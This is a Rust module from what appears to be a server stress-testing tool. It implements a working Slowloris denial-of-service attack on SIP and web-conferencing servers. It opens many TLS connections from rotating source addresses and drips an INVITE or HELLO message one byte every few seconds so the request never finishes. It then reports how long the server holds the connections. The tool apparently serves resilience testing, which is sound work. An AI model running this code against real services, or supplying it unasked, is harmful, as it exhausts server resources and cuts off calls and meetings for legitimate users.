//! Slowloris: N TLS connections, each sending a valid start (a SIP INVITE, or a web
//! conferencing HELLO) one byte every few seconds, never finishing. Counts how long the
//! server lets them live.

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::Result;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::net::tls_from;
use crate::report::Report;
use crate::sip::invite;
use crate::sources::Sources;

#[derive(Debug, Clone, Copy, clap::ValueEnum)]
pub enum Kind {
    Sip,
    Webconf,
}

/// The bytes a slow client dribbles out.
pub fn payload(kind: Kind, local: SocketAddr, target: SocketAddr, n: u64) -> Result<Vec<u8>> {
    Ok(match kind {
        Kind::Sip => invite(local, target, n).into_bytes(),
        Kind::Webconf => session_key::wire::Hello {
            conference_id: "flood".into(),
            token: "A".repeat(200),
        }
        .encode()?,
    })
}

enum Outcome {
    Failed,
    Held,
    ClosedAfter(Duration),
}

#[allow(clippy::too_many_arguments)]
async fn one(
    src: Ipv4Addr,
    target: SocketAddr,
    tls: Arc<rustls::ClientConfig>,
    name: String,
    kind: Kind,
    interval: Duration,
    end: Instant,
    n: u64,
) -> Outcome {
    let Ok(stream) = tls_from(Some(src), target, tls, &name).await else {
        return Outcome::Failed;
    };
    let opened = Instant::now();
    let local = stream
        .get_ref()
        .0
        .local_addr()
        .unwrap_or(SocketAddr::from((src, 0)));
    let Ok(bytes) = payload(kind, local, target, n) else {
        return Outcome::Failed;
    };
    let (mut rd, mut wr) = tokio::io::split(stream);
    let mut sink = [0u8; 1024];
    for b in bytes.iter().cycle() {
        if wr.write_all(&[*b]).await.is_err() {
            return Outcome::ClosedAfter(opened.elapsed());
        }
        let next = (Instant::now() + interval).min(end);
        // Reading while waiting notices a close at once.
        loop {
            match tokio::time::timeout_at(next.into(), rd.read(&mut sink)).await {
                Err(_) => break,
                Ok(Ok(0)) | Ok(Err(_)) => return Outcome::ClosedAfter(opened.elapsed()),
                Ok(Ok(_)) => {}
            }
        }
        if Instant::now() >= end {
            return Outcome::Held;
        }
    }
    Outcome::Held
}

#[allow(clippy::too_many_arguments)]
pub async fn run(
    target: SocketAddr,
    sources: Sources,
    tls: Arc<rustls::ClientConfig>,
    name: &str,
    kind: Kind,
    conns: u64,
    interval: Duration,
    seconds: f64,
) -> Result<Report> {
    let end = Instant::now() + Duration::from_secs_f64(seconds);
    let mut tasks = tokio::task::JoinSet::new();
    for i in 0..conns {
        tasks.spawn(one(
            sources.nth(i),
            target,
            tls.clone(),
            name.to_string(),
            kind,
            interval,
            end,
            i,
        ));
        if i % 100 == 99 {
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    }
    let (mut failed, mut held, mut closed) = (0u64, 0u64, Vec::new());
    while let Some(r) = tasks.join_next().await {
        match r? {
            Outcome::Failed => failed += 1,
            Outcome::Held => held += 1,
            Outcome::ClosedAfter(d) => closed.push(d.as_secs_f64()),
        }
    }
    closed.sort_by(f64::total_cmp);
    let median = closed.get(closed.len() / 2).copied().unwrap_or(0.0);
    let mut r = Report::new();
    r.add("offered", conns)
        .add("handshake_failed", failed)
        .add("closed_by_server", closed.len())
        .add("held_to_end", held)
        .add("median_close_s", format!("{median:.1}"));
    Ok(r)
}
